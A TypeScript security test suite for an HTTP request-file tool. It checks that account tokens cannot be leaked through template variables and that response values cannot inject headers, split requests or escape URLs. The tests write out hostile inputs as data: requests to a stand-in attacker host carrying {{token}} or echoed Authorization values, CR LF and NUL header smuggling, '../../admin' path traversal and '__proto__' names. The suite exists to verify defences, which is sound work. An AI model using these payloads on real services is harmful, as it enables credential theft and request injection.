import assert from 'node:assert/strict';
import { parseEnvironments } from '../../src/core/environment/environments.ts';
import { Attack, type Reply } from '../support/security/attack.ts';
import { hostile, threat } from '../support/security/threats.ts';

const attack = new Attack();

threat('T04', 'Secret through a variable', () => {
  before(() => attack.start());
  after(() => {
    attack.stop();
  });
  beforeEach(() => {
    // A server that says what it was sent, the token too: it comes back as a value of a response.
    attack.reset(({ headers }) => ({ body: JSON.stringify({ sent: headers.authorization ?? '' }) }));
  });

  const names = [
    'token',
    'access_token',
    'client_secret',
    'clientSecret',
    'matter.token',
    'account.clientSecret',
    '$token',
  ];
  for (const name of names)
    hostile('hostile:template', `{{${name}}}`, async () => {
      const outcome = await attack.send(`### a\nGET http://${attack.evilHost}/?x={{${name}}}\n`);
      assert.equal('error' in outcome && outcome.error.code, 'unresolved');
      assert.equal(attack.evil.received.length, 0);
    });

  hostile('hostile:template', 'the Authorization header of an earlier request', async () => {
    const text = `### one\nGET /x\n### a\nGET http://${attack.evilHost}/?x={{one.request.headers.Authorization}}\n`;
    const outcome = await attack.send(text);
    assert.equal('error' in outcome && outcome.error.code, 'unresolved');
    assert.equal(attack.api.received.at(-1)?.headers.authorization, `Bearer ${attack.token}`); // there was one
  });

  const echoed = '{{one.response.body.$.sent}}';
  const places: Readonly<Record<string, (host: string) => string>> = {
    'a URL of another host': (host) => `GET http://${host}/?x={{%one.response.body.$.sent}}\n`,
    'a header for another host': (host) => `GET http://${host}/\nX-Auth: ${echoed}\n`,
    'a body for another host, without the account': (host) => `# @no-auth\nPOST http://${host}/\n\n${echoed}\n`,
    'a URL of the account itself': () => 'GET /?x={{%one.response.body.$.sent}}\n',
  };
  for (const [name, request] of Object.entries(places))
    hostile('hostile:template', `an echoed token in ${name}`, async () => {
      const outcome = await attack.send(`### one\nGET /echo\n### a\n${request(attack.evilHost)}`);
      assert.equal('error' in outcome && outcome.error.code, 'invalid-request');
      assert.match('error' in outcome ? outcome.error.message : '', /holds a secret of your account.*Nothing was sent/);
      assert.equal(attack.evil.received.length, 0);
      assert.equal(attack.api.received.filter(({ path }) => path !== '/auth/v1/token').length, 1);
    });

  it('keeps an echoed token out of any other header, and out of Authorization for anybody else', async () => {
    for (const request of [
      `GET http://${attack.evilHost}/\nAuthorization: ${echoed}\n`,
      `# @no-auth\nGET http://${attack.evilHost}/\nAUTHORIZATION: ${echoed}\n`,
      `GET http://api.matter.test:${attack.evil.port}/\nAuthorization: ${echoed}\n`,
      `GET /y\nX-Auth: ${echoed}\n`,
      `GET /y\nProxy-Authorization: ${echoed}\n`,
      `GET /y\nAuthorization: ${echoed}\nCookie: ${echoed}\n`,
      `POST /y\nAuthorization: ${echoed}\n\n${echoed}\n`,
    ]) {
      const outcome = await attack.send(`### one\nGET /echo\n### a\n${request}`);
      assert.equal('error' in outcome && outcome.error.code, 'invalid-request', request);
    }
    assert.equal(attack.evil.received.length, 0);
    assert.ok(attack.api.received.every(({ path }) => path !== '/y'));
  });

  it('lets the user write a header of their own for the account', async () => {
    const outcome = await attack.send(`### one\nGET /echo\n### a\nGET /y\nAuthorization: ${echoed}\n`);
    assert.ok('exchange' in outcome);
  });
});

threat('T05', 'Injection by a response', () => {
  before(() => attack.start());
  after(() => {
    attack.stop();
  });

  const value = '{{one.response.body.$.v}}';

  /** Sends a request that uses the value `v` of a response. */
  async function use(v: unknown, request: string, reply: Reply = {}): ReturnType<Attack['send']> {
    attack.reset(({ path }) => (path === '/one' ? { body: JSON.stringify({ v }), ...reply } : {}));
    return attack.send(`@secretish = file value\n### one\nGET /one\n### a\n${request}`);
  }
  const refused = (outcome: Awaited<ReturnType<Attack['send']>>, code: string): void => {
    assert.equal('error' in outcome && outcome.error.code, code);
    assert.equal(attack.evil.received.length, 0);
    assert.equal(attack.api.received.at(-1)?.path, '/one');
  };

  for (const [name, v] of [
    ['a reference to a variable', '{{secretish}}'],
    ['a reference to the environment of the process', '{{$processEnv HOME}}'],
    ['a reference to a .env file', '{{$dotenv KEY}}'],
    ['a reference to itself', value],
  ] as const)
    hostile('hostile:template', `${name} stays text`, async () => {
      await use(v, `POST /two\n\n${value}`);
      assert.equal(attack.api.received.at(-1)?.body, v);
    });
  hostile('hostile:template', 'a reference, through a variable of the file, stays text', async () => {
    await use('{{secretish}}', `@via = ${value}\nPOST /two\n\n{{via}}`);
    assert.equal(attack.api.received.at(-1)?.body, '{{secretish}}');
  });
  hostile('hostile:template', 'a reference, captured, stays text', async () => {
    attack.reset(({ path }) => (path === '/one' ? { body: '{"v": "{{secretish}}"}' } : {}));
    await attack.send(
      `@secretish = x\n### one\n# @capture got = body.$.v\nGET /one\n### a\n# @depends one\nPOST /two\n\n{{got}}`,
    );
    assert.equal(attack.api.received.at(-1)?.body, '{{secretish}}');
  });

  hostile('hostile:template', 'CR LF in a header', async () => {
    refused(await use('a\r\nX-Evil: 1', `GET /two\nX-A: ${value}\n`), 'invalid-request');
  });
  hostile('hostile:template', 'CR LF in a URL splits no request', async () => {
    await use('a HTTP/1.1\r\nX-Evil: 1\r\n\r\nGET /evil', `GET /two?x=${value}\n`);
    assert.equal(attack.api.received.filter(({ path }) => path.startsWith('/two')).length, 1);
    assert.equal(attack.api.received.length, 3);
    assert.equal(attack.api.received.at(-1)?.headers['x-evil'], undefined);
  });
  hostile('hostile:template', 'NUL in a header', async () => {
    refused(await use('a\0b', `GET /two\nX-A: ${value}\n`), 'invalid-request');
  });
  hostile('hostile:template', 'a whole URL of another host carries no token', async () => {
    await use(`http://${attack.evilHost}/`, `GET ${value}\n`);
    assert.doesNotMatch(attack.loot, /authorization|sbx/);
  });
  hostile('hostile:template', 'a host that continues the address of the account', async () => {
    await use(`.${attack.evilHost}/`, `GET http://api.matter.test${value}\n`);
    assert.doesNotMatch(attack.loot, /authorization|sbx/);
  });
  hostile('hostile:template', '@ after the address of the account', async () => {
    await use(`@${attack.evilHost}/`, `GET ${attack.origin}${value}\n`);
    assert.doesNotMatch(attack.loot, /authorization|sbx/);
    assert.ok(attack.api.received.at(-1)?.path === '/one');
  });
  hostile('hostile:template', 'an encoded value leaves its place in the URL not', async () => {
    await use('../../admin?x=1#y', 'GET /jobs/{{%one.response.body.$.v}}/result\n');
    assert.equal(attack.api.received.at(-1)?.path, '/jobs/..%2F..%2Fadmin%3Fx%3D1%23y/result');
  });
  for (const name of ['__proto__', 'constructor', 'toString'])
    hostile('hostile:template', `the name ${name} has no value of its own`, async () => {
      attack.reset();
      const read = parseEnvironments(`{"dev": {"a": "1"}}`, undefined);
      assert.ok(!('problem' in read));
      const environment = read.valuesOf('dev') ?? new Map<string, unknown>();
      const outcome = await attack.send(`### a\nGET /x?v={{${name}}}\n`, { environment });
      assert.equal('error' in outcome && outcome.error.code, 'unresolved');
      assert.deepEqual(attack.api.received, []);
    });
});
